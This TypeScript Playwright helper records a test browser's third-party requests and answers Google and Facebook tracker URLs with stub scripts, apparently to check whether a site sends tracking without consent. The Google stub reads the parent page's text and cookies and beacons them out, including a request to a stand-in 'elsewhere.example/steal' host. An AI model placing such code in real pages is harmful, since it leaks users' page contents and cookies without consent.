import type { BrowserContext } from "@playwright/test";

const TRACKERS =
  /^https:\/\/(?:www\.googletagmanager\.com|region1\.google-analytics\.com|connect\.facebook\.net|www\.facebook\.com)\//;

/**
 * Scripts that imitate the visible behaviour of the real ones: they set a cookie, read the page, and send the events that they
 * get.
 */
const GOOGLE = `
  document.cookie = "_ga=GA1.1.42; path=/; max-age=63072000";
  var around = [];
  try { around.push(parent.document.body.innerText); } catch (error) { around.push("closed"); }
  function send(entry) {
    fetch("https://region1.google-analytics.com/g/collect?dl=" + encodeURIComponent(location.href) +
      "&dr=" + encodeURIComponent(document.referrer) + "&around=" + around + "&cookie=" + encodeURIComponent(document.cookie) +
      "&entry=" + encodeURIComponent(JSON.stringify(Array.from(entry.length === undefined ? [entry] : entry))),
      { mode: "no-cors", keepalive: true }).catch(() => {});
  }
  if (!window.started) {
    window.started = true;
    for (const entry of dataLayer.slice()) send(entry);
    dataLayer.push = function (entry) { Array.prototype.push.call(dataLayer, entry); send(entry); };
    // No group has consented to these requests.
    fetch("https://elsewhere.example/steal?dl=" + encodeURIComponent(location.href), { mode: "no-cors" }).catch(() => {});
    new Image().src = "https://elsewhere.example/pixel.gif";
  }`;
const META = `
  document.cookie = "_fbp=fb.1.42; path=/";
  fbq.callMethod = function () {
    new Image().src = "https://www.facebook.com/tr/?dl=" + encodeURIComponent(location.href) + "&said=" + encodeURIComponent(JSON.stringify(Array.from(arguments)));
  };
  for (const said of fbq.queue.splice(0)) fbq.callMethod.apply(fbq, said);`;

/** Records every request to other sites than these. None leaves the machine; those to trackers are answered with scripts. */
export async function recordOthers(
  context: BrowserContext,
  ...sites: readonly string[]
): Promise<readonly string[]> {
  const sent: string[] = [];
  const isOurs = (address: string) =>
    sites.some((site) => address.startsWith(`${site}/`)) || /^(?:data|blob|about):/.test(address);
  await context.route(
    (url) => !isOurs(url.href),
    (route) => {
      const address = route.request().url();
      sent.push(address);
      if (!TRACKERS.test(address)) return route.abort();
      const isScript = route.request().resourceType() === "script";
      return route.fulfill({
        contentType: isScript ? "text/javascript" : "image/gif",
        body: isScript ? (address.includes("facebook") ? META : GOOGLE) : "",
      });
    },
  );
  return sent;
}
